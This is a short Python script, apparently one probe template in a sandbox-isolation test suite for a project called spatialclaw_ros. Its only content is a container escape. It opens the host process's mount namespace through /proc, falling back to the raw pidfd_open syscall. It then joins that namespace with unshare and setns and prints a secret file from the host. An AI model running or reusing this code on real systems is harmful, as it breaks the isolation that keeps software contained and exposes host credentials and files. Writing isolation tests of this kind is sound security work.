# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Enter the host's mount namespace, where nothing was taken away."""

# act: read
# needs: x86_64

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
try:
    fd = os.open(f'/proc/{HOST_PID}/ns/mnt', os.O_RDONLY)
except OSError:
    fd = libc.syscall(434, HOST_PID, 0)
if libc.unshare(0x200) or libc.setns(fd, 0x20000):
    print(ctypes.get_errno())
print(open(SECRET_FILE).read())
